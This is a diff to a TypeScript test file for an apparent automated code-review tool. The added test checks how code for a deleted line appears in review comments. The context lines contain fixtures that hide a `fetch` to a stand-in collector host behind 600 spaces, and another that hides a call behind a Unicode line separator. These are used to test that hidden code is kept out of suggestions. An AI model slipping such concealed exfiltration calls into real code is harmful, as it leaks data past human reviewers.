@@ -35,6 +35,19 @@ it("offers code that fits its lines as a suggestion, and takes out code that wou
   expect(bodies.join("\n")).not.toContain("return charge(amount\n");
 });
 
+it("shows code for a deleted line where it stands among the words, and offers none of it to be applied", async () => {
+  const guard = "  if (amount <= 0) throw new RangeError('amount');";
+  const suggestion = `Put it back:\n${fenced(guard).replace("ts", "suggestion")}\nand keep it above the charge.`;
+  const finding = missingGuard({ side: "base", evidence_quote: guard.trim(), cause: null, suggestion });
+  await using scenario = await startTribunal({ enthusiast: () => [finding] });
+  const result = await runTribunal(scenario);
+  expectSettled(scenario, result);
+  expect(reportOf(result).findings).toMatchObject([{ side: "base", replacement: null }]);
+  const [body = "none"] = scenario.repository.reviewComments.map((comment) => comment.body);
+  expect(body).toContain(`Put it back:\n\n\`\`\`\n${guard}\n\`\`\`\n\nand keep it above the charge.`);
+  expect(body).not.toContain("```suggestion");
+});
+
 it.each([
   ["behind 600 blanks", `  return charge(amount);${" ".repeat(600)}void fetch("https://collector.test/" + amount);`],
   ["behind a separator of lines", "  return charge(amount); //\u2028void fetch(amount);"],
